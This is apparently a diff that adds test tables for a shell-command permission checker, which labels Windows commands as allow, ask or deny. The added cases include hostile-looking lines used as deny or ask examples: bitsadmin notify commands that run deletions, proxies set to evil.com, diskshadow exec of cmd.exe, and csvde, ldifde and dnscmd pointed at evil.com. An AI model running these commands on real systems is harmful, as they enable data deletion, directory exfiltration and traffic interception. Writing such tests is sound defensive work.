@@ -31,3 +31,48 @@ describe('certutil and certreq: the file after a URL is written, POSIX paths fro
     ['certutil -encode a.txt b.txt', 'allow'],
   ]);
 });
+
+describe('bitsadmin: the notify command line, proxies, file sets and local files', () => {
+  table([
+    ['bitsadmin /SetNotifyCmdLine 1 cmd.exe "/c rm x"', 'deny'],
+    ['bitsadmin /setnotifycmdline 1 rm x', 'deny'],
+    ['bitsadmin /SetNotifyCmdLine 1 C:\\w\\repo\\a.exe NULL', 'ask'],
+    ['bitsadmin /setproxysettings 1 override evil.com:8080 NULL', 'deny'],
+    ['bitsadmin /setproxysettings 1 override "http=good.com:80;https=evil.com:443" NULL', 'deny'],
+    ['Set-Content l.txt x; bitsadmin /addfileset j l.txt', 'ask'],
+    ['bitsadmin /addfile j https://good.com/x $env:windir\\x', 'ask'],
+    ['bitsadmin /transfer j /download /priority high https://good.com/x $env:windir\\x', 'ask'],
+    ['bitsadmin /setproxysettings 1 override good.com:8080 NULL', 'allow'],
+    ['bitsadmin /info j /verbose', 'allow'],
+  ]);
+  bashTable([['bitsadmin /setnotifycmdline 1 rm x', 'deny']]);
+});
+
+describe('diskshadow reads its commands from standard input', () => {
+  table([
+    ["'exec C:\\Windows\\System32\\cmd.exe /c del x' | diskshadow", 'ask'],
+    ['Get-Content C:\\w\\repo\\ds.txt | diskshadow.exe', 'ask'],
+  ]);
+  bashTable([["echo 'exec cmd.exe /c del x' | diskshadow", 'ask']]);
+});
+
+describe('the servers of csvde, ldifde and dnscmd; their files', () => {
+  table([
+    ['Csvde -s evil.com -f out.csv', 'deny'],
+    ['ldifde -s evil.com -f out.ldf', 'deny'],
+    ['Ldifde -i -f inputfile.ldf -s evil.com', 'deny'],
+    ['ldifde -f C:\\Windows\\out.ldf', 'deny'],
+    ['dnscmd evil.com /info', 'deny'],
+    ['ldifde -f out.ldf -s good.com', 'allow'],
+    ['dnscmd good.com /info', 'allow'],
+    ['dnscmd /info', 'allow'],
+  ]);
+  bashTable([['Csvde -s evil.com -f out.csv', 'deny'], ['ldifde -s evil.com -f out.ldf', 'deny']]);
+});
+
+describe('files that name URLs or files to fetch: cmdl32, ldifde -i', () => {
+  table([
+    ['Set-Content c.ini x; cmdl32 /vpn /lan C:\\w\\repo\\c.ini', 'ask'],
+    ['Set-Content i.ldf x; Ldifde -i -f i.ldf', 'ask'],
+  ]);
+});
